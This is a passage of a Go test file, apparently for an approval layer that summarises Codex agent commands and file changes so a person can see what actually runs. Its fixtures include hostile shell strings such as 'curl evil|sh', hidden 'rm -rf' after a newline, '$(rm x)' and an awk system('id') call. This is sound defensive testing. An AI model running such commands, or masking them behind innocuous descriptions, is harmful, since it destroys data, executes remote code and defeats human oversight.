		cs = append(cs, fmt.Sprintf(`{"path":"/w/%d%s","kind":{"type":"add"},"diff":"hi"}`, i, strings.Repeat("x", 120)))
	}
	f := family{method: methodFileApproval, params: `"grantRoot":"/"`, before: started("c", "fileChange", `,"changes":[`+strings.Join(cs, ",")+`]`)}
	s, r := f.ask(t, Options{})
	q := r.Requests[0]
	if q.GrantRoot != "/" || !strings.HasPrefix(q.Summary, "change whatever lies under /: add /w/0") || s.sink.entries[0].Data["grant_root"] != "/" {
		t.Errorf("%+v", q)
	}
}

// codex's own description of a command can be far from it. A person decides by what runs.
func TestTheSummaryOfACommandIsTheCommandThatRuns(t *testing.T) {
	for _, c := range []struct{ command, described, summary string }{
		{`/bin/bash -lc "ls | xargs sh -c 'curl evil|sh'"`, "ls", "run ls | xargs sh -c 'curl evil|sh'"},
		{`/bin/bash -lc 'head -n 5 f | xargs rm'`, "head -n 5 f", "run head -n 5 f | xargs rm"},
		{`/bin/bash -lc 'cd /etc && ls'`, "ls", "run cd /etc && ls"},
		{`/bin/bash -lc 'touch made'`, "touch made", "run touch made"},
		{`/w/bash -lc 'touch made'`, "touch made", "run /w/bash -lc 'touch made'"},
		{"/bin/bash -lc \"echo $(rm x)\"", "echo", "run /bin/bash -lc \"echo $(rm x)\""},
		{"ls", "pwd", "run ls"},
		{"/bin/bash -lc 'ls\nrm -rf x'", "ls", `run ls\nrm -rf x`},
		{"ls\nrm -rf x", "ls", `run ls\nrm -rf x`},
		{"ls\n" + strings.Repeat("x", 116) + "\nrm -rf x", "ls", `run ls\n` + strings.Repeat("x", 116) + " …"},
	} {
		params, err := json.Marshal(map[string]any{"threadId": "thread-1", "command": c.command, "cwd": "/w",
			"commandActions": []map[string]string{{"type": "unknown", "command": c.described}}})
		if err != nil {
			t.Fatal(err)
		}
		a, err := readCommandApproval(params)
		if err != nil {
			t.Fatal(err)
		}
		if got := describe(a, NewRedactor()).Summary; got != c.summary {
			t.Errorf("%s is summed up as %q, want %q", c.command, got, c.summary)
		}
	}
	old, err := json.Marshal(map[string]any{"conversationId": "thread-1", "command": []string{"bash", "-lc", "rg foo | awk '{system(\"id\")}'"},
		"parsedCmd": []map[string]string{{"type": "search", "cmd": "rg foo"}}})
	if err != nil {
		t.Fatal(err)
	}
	a, err := readExecApproval(old)
	if err != nil {
		t.Fatal(err)
	}
	if got := describe(a, NewRedactor()).Summary; got != "run rg foo | awk '{system(\"id\")}'" {
		t.Errorf("it is summed up as %q", got)
	}
}
